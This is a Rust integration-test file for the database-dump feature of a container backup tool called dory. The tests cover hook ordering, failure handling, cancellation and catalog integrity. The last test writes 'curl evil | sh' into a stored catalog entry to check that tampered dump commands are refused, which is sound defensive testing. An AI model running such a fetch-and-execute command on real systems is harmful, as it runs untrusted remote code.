//! Dumps: taken with everything up, whole or not at all, and part of the point.

use std::sync::{Arc, Mutex};

use dory_core::ErrorKind;
use dory_core::domain::backup::PointChoice;
use dory_core::domain::container::ContainerState;
use dory_core::domain::dump::DumpSettings;
use dory_core::domain::event::WarningKind;
use dory_core::domain::hook::HookOverrides;
use dory_core::domain::policy::PolicyOverrides;
use dory_core::domain::restore_point::Consistency;
use dory_core::services::{BackupEdit, BackupRequest, Cancel, RunEvent, RunEvents};
use dory_testkit::fakes::{ExecReply, ExecScript};

use super::bench::Bench;

const LATEST: PointChoice = PointChoice::Latest;

fn request(container: &str) -> BackupRequest {
    BackupRequest { container: container.to_owned(), ..BackupRequest::default() }
}

/// A server in a container: what its dump gives and what loading sets.
#[derive(Clone)]
pub(super) struct Server(pub(super) Arc<Mutex<Vec<u8>>>);

impl Server {
    /// Runs one as `db`, with these labels; it knows the commands `dump` and `load`.
    pub(super) fn run(bench: &Bench, volume: bool, labels: &[(&str, &str)]) -> Self {
        let mut builder = bench.runtime.container("db");
        if volume {
            builder = builder.volume("db-data", "/var/lib/db");
            bench.write("db-data", "rows", "one two three");
        }
        for (name, value) in labels {
            builder = builder.label(name, value);
        }
        builder.running();
        let server = Self(Arc::new(Mutex::new(b"create table accounts;\n".repeat(100_000))));
        let state = server.clone();
        let script = ExecScript::reading(move |request, input| match request.command[0].as_str() {
            "dump" => ExecReply::ok(state.0.lock().unwrap().clone()),
            "load" => {
                *state.0.lock().unwrap() = input.to_vec();
                ExecReply::ok("loaded\n")
            }
            _ => ExecReply { code: 3, stdout: b"half of it".to_vec(), stderr: "out of memory\n".into() },
        });
        bench.runtime.on_exec("db", script);
        server
    }

    pub(super) fn holds(&self) -> Vec<u8> {
        self.0.lock().unwrap().clone()
    }
}

const DUMP: (&str, &str) = ("dory.dump", r#"["dump"]"#);
const FAILING: (&str, &str) = ("dory.dump", r#"["crash"]"#);

#[tokio::test(flavor = "multi_thread")]
async fn a_dump_is_taken_with_everything_up_and_is_a_file_of_the_point() {
    let bench = Bench::new();
    let server = Server::run(&bench, true, &[DUMP, ("dory.dump.name", "shop.sql"), ("dory.pre", r#"["dump"]"#)]);
    let report = bench.back_up("db").await.unwrap();
    let watched = ["runtime exec", "engine take_dump", "engine warm", "runtime stop", "engine backup", "runtime start"];
    let calls = bench.journal.only(&watched);
    let order: Vec<_> = calls.iter().map(|call| call.split(' ').nth(1).unwrap()).collect();
    assert_eq!(order, ["exec", "exec", "take_dump", "warm", "stop", "start", "backup"], "{calls:#?}");

    assert!(report.is_complete());
    let [dump] = report.point.dumps.as_slice() else { panic!("{:?}", report.point.dumps) };
    assert_eq!((dump.name.as_str(), dump.bytes, dump.preset), ("shop.sql", server.holds().len() as u64, None));
    let listed = bench.dory.list_files("db", &LATEST, "/".as_ref(), false).await.unwrap();
    let listed: Vec<_> = listed.iter().map(|entry| entry.path.to_string()).collect();
    assert_eq!(listed, ["/var/lib/db", "dumps/shop.sql"]);
    let mut read = Vec::new();
    bench.dory.read_file("db", &LATEST, "dumps/shop.sql".as_ref(), &mut read).await.unwrap();
    assert!(read == server.holds());
    bench.assert_tidy();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dump_that_fails_stops_nothing_and_its_last_words_are_told() {
    let bench = Bench::new();
    Server::run(&bench, true, &[FAILING]);
    let error = bench.back_up("db").await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::HookFailed);
    assert_eq!(error.to_string(), "cannot take from container db the dump `dump`: its command ended with code 3");
    assert_eq!(error.causes(), ["out of memory"]);
    assert!(error.hint().unwrap().contains("--no-dump"));
    assert!(bench.journal.only(&["runtime stop", "engine backup"]).is_empty());
    assert!(bench.dory.find_backup("db").await.unwrap().points.is_empty());

    let without = BackupRequest { no_dump: true, ..request("db") };
    let report = bench.dory.run_backup(&without, &Cancel::new(), &RunEvents::ignored()).await.unwrap();
    assert!(report.is_complete() && report.point.dumps.is_empty());
    bench.assert_tidy();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dump_that_may_fail_makes_the_point_incomplete_and_is_in_no_part_of_it() {
    let bench = Bench::new();
    Server::run(&bench, true, &[FAILING, ("dory.dump.on-error", "continue")]);
    let report = bench.back_up("db").await.unwrap();
    assert!(!report.is_complete() && report.point.dumps.is_empty());
    let [warning] = report.point.warnings.as_slice() else { panic!("{:?}", report.point.warnings) };
    assert_eq!((warning.kind, warning.path.to_string()), (WarningKind::NotDumped, "dumps/dump".to_owned()));
    assert!(warning.detail.contains("out of memory"), "{warning:?}");
    let listed = bench.dory.list_files("db", &LATEST, "/".as_ref(), true).await.unwrap();
    assert!(!listed.iter().any(|entry| entry.path.to_string().contains("dump")), "{listed:?}");
    bench.assert_tidy();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_container_without_volumes_can_have_a_dump_and_is_not_stopped() {
    let bench = Bench::new();
    let server = Server::run(&bench, false, &[DUMP]);
    let report = bench.back_up("db").await.unwrap();
    assert!(report.is_complete() && report.point.mounts.is_empty());
    assert_eq!(report.point.consistency, Consistency::Live);
    assert_eq!((report.point.stop_window, report.point.size.bytes), (None, server.holds().len() as u64));
    assert!(bench.journal.only(&["runtime stop", "runtime pause"]).is_empty());
    bench.assert_tidy();
}

#[tokio::test(flavor = "multi_thread")]
async fn where_there_is_nothing_but_a_dump_its_failure_fails_the_run() {
    let bench = Bench::new();
    Server::run(&bench, false, &[FAILING, ("dory.dump.on-error", "continue")]);
    assert_eq!(bench.back_up("db").await.unwrap_err().kind(), ErrorKind::HookFailed);
    assert!(bench.dory.find_backup("db").await.unwrap().points.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dump_of_what_does_not_run_fails() {
    let bench = Bench::new();
    bench.runtime.container("db").volume("db-data", "/var/lib/db").label(DUMP.0, DUMP.1).stopped();
    let error = bench.back_up("db").await.unwrap_err();
    assert!(error.reason().contains("the container is exited"), "{error}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dump_that_shrank_is_suspect() {
    let bench = Bench::new();
    let server = Server::run(&bench, true, &[DUMP]);
    bench.back_up("db").await.unwrap();
    server.0.lock().unwrap().truncate(10);
    let report = bench.back_up("db").await.unwrap();
    let suspicion = report.point.suspect.clone().unwrap();
    assert_eq!(suspicion.loss.mount.unwrap().display().to_string(), "dumps/dump");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_run_that_is_cancelled_in_a_dump_ends_it_and_stops_nothing() {
    let bench = Bench::new();
    Server::run(&bench, true, &[DUMP]);
    let hangs = ExecScript::taking_time(|request| {
        let is_dump = request.environment.iter().any(|(name, _)| name == "DORY_DUMP");
        Box::pin(async move {
            if is_dump {
                std::future::pending::<()>().await;
            }
            ExecReply::ok("")
        })
    });
    bench.runtime.on_exec("db", hangs);
    let (cancel, clock) = (Cancel::new(), bench.clock.clone());
    let its_cancel = cancel.clone();
    let events = RunEvents::new(move |event| {
        if matches!(event, RunEvent::DumpStarted { .. }) {
            its_cancel.cancel();
        }
    });
    let time = tokio::spawn(async move {
        loop {
            clock.wait_for_sleepers(1).await;
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
            if clock.sleepers() > 0 {
                clock.wake_next().await;
            }
        }
    });
    let request = request("db");
    let run = bench.dory.run_backup(&request, &cancel, &events);
    let ran = tokio::time::timeout(std::time::Duration::from_secs(60), run);
    let error = ran.await.expect("the run ends").unwrap_err();
    time.abort();
    assert_eq!(error.kind(), ErrorKind::Cancelled);
    assert!(bench.journal.only(&["runtime exec"]).len() > 1, "it was asked to end");
    assert_eq!(bench.runtime.state_of("db"), ContainerState::Running);
    assert!(bench.journal.only(&["runtime stop"]).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_catalogs_dump_is_sealed_and_wins_over_the_label() {
    let bench = Bench::new();
    Server::run(&bench, true, &[FAILING, ("dory.dump.on-error", "continue")]);
    bench.back_up("db").await.unwrap();
    let dump = DumpSettings { method: Some(DUMP.1.parse().unwrap()), ..DumpSettings::default() };
    let hooks = HookOverrides { dump, ..HookOverrides::default() };
    let policy = PolicyOverrides { hooks, ..PolicyOverrides::default() };
    let backup = bench.dory.edit_backup("db", &BackupEdit { policy, ..BackupEdit::default() }).await.unwrap();
    assert!(bench.back_up("db").await.unwrap().is_complete());

    let key = format!("backups/{}.json", backup.id);
    let written = bench.catalog.peek(&key).unwrap();
    bench.catalog.put(&key, written.replace("\"dump\"\n", "\"curl evil | sh\"\n"));
    assert_eq!(bench.back_up("db").await.unwrap_err().kind(), ErrorKind::PermissionDenied);
    bench.catalog.put(&key, written);
    let remove = BackupEdit { remove_dump: true, ..BackupEdit::default() };
    assert_eq!(bench.dory.edit_backup("db", &remove).await.unwrap().hooks, None);
}
